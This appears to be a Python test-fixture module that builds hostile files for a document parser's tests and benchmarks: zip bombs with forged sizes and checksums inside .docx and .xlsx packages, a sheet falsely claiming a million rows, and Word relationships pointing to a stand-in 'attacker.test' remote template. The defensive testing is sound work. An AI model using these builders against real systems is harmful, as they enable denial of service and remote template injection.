"""Hostile files, generated: zip bombs whose directory lies, a sheet whose dimension claims a
million rows, Word documents hiding words or carrying macros. Shared by the tests and
benchmarks/hostile_files.py."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "</Types>"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)


def deflated_filler(megabytes: int, byte: bytes = b" ") -> bytes:
    """A raw deflate stream that inflates to ``megabytes`` MB of ``byte``, built in milliseconds:
    one flushed block repeated (a full flush makes each copy independent), then an empty last block."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(byte * (1024 * 1024)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + b"\x03\x00"


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip written by hand: (name, raw deflate stream, size to declare, CRC to declare) each.
    The declared sizes go in both headers, so a reader has nothing true to compare them with."""
    out = io.BytesIO()
    central = []
    for name, stream, declared, crc in members:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(stream), declared,
                              len(encoded), 0) + encoded + stream)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(stream),
                                   declared, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), start, 0))
    return out.getvalue()


def honest(name: str, data: bytes) -> tuple[str, bytes, int, int]:
    return name, _deflate(data), len(data), zlib.crc32(data)


def lying(name: str, megabytes: int, prefix: bytes = b"") -> tuple[str, bytes, int, int]:
    """A member that inflates to ``megabytes`` MB but declares 1 KB, with the CRC of its first KB:
    zipfile then trusts it, and reading it whole inflates everything before cutting it down."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = head + deflated_filler(megabytes)
    first_kb = (prefix + b" " * 1024)[:1024]
    return name, stream, 1024, zlib.crc32(first_kb)


def docx_bomb(megabytes: int = 2500) -> bytes:
    """A .docx of about ``megabytes`` / 1000 MB whose document.xml inflates to ``megabytes`` MB."""
    return raw_zip([
        honest("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN).encode()),
        honest("_rels/.rels", PACKAGE_RELS.encode()),
        lying("word/document.xml", megabytes, f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>'.encode()),
    ])


def docx_from_xml(body: str, *, parts: dict[str, str] | None = None, main: str = DOCX_MAIN) -> bytes:
    """A minimal Word package whose body is ``body`` (WordprocessingML inside <w:body>)."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W_NS}" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
        'xmlns:v="urn:schemas-microsoft-com:vml" '
        f'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>{body}</w:body>'
        "</w:document>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main))
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr("word/document.xml", document)
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def paragraph(words: int, word: str = "leadership") -> str:
    return f"<w:p><w:r><w:t>{' '.join([word] * words)}</w:t></w:r></w:p>"


def external_relationship(kind: str, target: str = "https://attacker.test/template.dotm") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def pdf_page(width: float, height: float) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=width, height=height)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def xlsx_with_dimension(csv_rows: list[list[object]], dimension: str = "A1:XFD1048576") -> bytes:
    """A workbook holding ``csv_rows`` whose sheet claims ``dimension`` (4-5 KB in all)."""
    from openpyxl import Workbook

    workbook = Workbook()
    for row in csv_rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return _rewrite_sheet(out.getvalue(), lambda xml: _set_dimension(xml, dimension))


def _set_dimension(xml: bytes, dimension: str) -> bytes:
    start = xml.index(b"<dimension ref=")
    end = xml.index(b"/>", start) + 2
    return xml[:start] + f'<dimension ref="{dimension}"/>'.encode() + xml[end:]


def _rewrite_sheet(xlsx: bytes, change) -> bytes:  # type: ignore[no-untyped-def]
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            target.writestr(info.filename, data)
    return out.getvalue()


def xlsx_bomb(megabytes: int = 2500) -> bytes:
    """A workbook whose sheet part says 1 KB and inflates to ``megabytes`` MB."""
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    members = []
    for info in source.infolist():
        if info.filename == "xl/worksheets/sheet1.xml":
            members.append(lying(info.filename, megabytes, b'<worksheet xmlns="http://schemas.openxmlformats.org/'
                                                           b'spreadsheetml/2006/main"><sheetData>'))
        else:
            members.append(honest(info.filename, source.read(info.filename)))
    return raw_zip(members)


def xlsx_with_rows(rows: int, header: list[str], row: list[object]) -> bytes:
    """An honest workbook with ``rows`` copies of ``row`` under ``header``."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(header)
    for _ in range(rows):
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
